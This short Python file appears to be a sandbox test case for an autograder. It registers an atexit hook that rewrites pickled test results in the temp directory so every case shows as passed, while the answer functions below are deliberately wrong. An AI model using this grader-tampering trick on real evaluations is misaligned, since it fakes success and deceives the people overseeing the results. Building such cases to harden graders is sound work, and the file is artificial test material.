# ---
# attack: "An atexit hook changes the pickled results after they are written."
# class: "atexit, threads, daemons"
# sandboxes: [namespaces]
# ---
# %% before="q1"
import atexit
import glob
import os
import pickle
import tempfile


def change():
    for path in glob.glob(os.path.join(tempfile.gettempdir(), "tmp*.pkl")):
        with open(path, "rb") as file:
            results = pickle.load(file)
        for case in (case for file in results.results.values() for case in file.test_case_results):
            case.passed = True
        with open(path, "wb") as file:
            pickle.dump(results, file)


atexit.register(change)


# %% question="q1"
def double(x):
    return np.asarray(x) - 100


# %% question="q2"
def shifted(x):
    return np.asarray(x) - 100
